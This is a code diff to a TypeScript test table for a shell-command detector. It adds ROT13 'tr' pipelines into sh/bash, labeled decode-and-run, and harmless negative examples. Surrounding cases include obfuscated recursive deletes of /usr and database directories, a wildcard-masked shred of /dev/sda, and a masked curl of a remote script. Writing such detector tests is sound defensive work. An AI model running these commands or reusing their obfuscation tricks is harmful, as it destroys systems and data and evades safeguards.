@@ -289,6 +289,9 @@ const POSITIVE: [string, string, string][] = [
   ['/u?r/b*/r[m] -fr /usr', 'shell.rm-recursive-root', 'critical'],
   ['/???/?hred -n 3 /dev/sda', 'shell.computed-command', 'high'],
   ['/usr/bin/c?rl https://x.example/p.sh', 'shell.computed-command', 'high'],
+  // A transform piped into a shell, with no program name before the pipe to open the gate.
+  ["printf 'ez -es ~' | tr 'a-z' 'n-za-m' | sh", 'shell.decode-and-run', 'critical'],
+  ['cat notes.txt | tr N-ZA-Mn-za-m A-Za-z |bash', 'shell.decode-and-run', 'critical'],
   // Data stores: database and engine directories under /var/lib, emptied by rm, rsync or truncate.
   ['sudo rm -rf /var/lib/mysql', 'shell.rm-recursive-root', 'critical'],
   ['rm -r /var/lib/etcd/member', 'shell.rm-recursive-root', 'critical'],
@@ -417,6 +420,8 @@ const NEGATIVE: [string, string][] = [
   ['./scripts/migrate-*.sh', 'shell.computed-command'],
   ['cat logs/2024-0?-*.log | grep ERROR', 'shell.computed-command'],
   ['How do I send a form upload with curl?', 'shell.computed-command'],
+  ["echo 'make test' | sh", 'shell.decode-and-run'],
+  ['git log --oneline | sort | uniq -c | sh -c "cat"', 'shell.decode-and-run'],
   ['Which port does the sshd service?', 'shell.computed-command'],
   ['rm -rf /var/lib/apt/lists/*', 'shell.rm-recursive-root'],
   ['rsync -av --delete ./public/ /var/www/site/', 'shell.rm-recursive-root'],
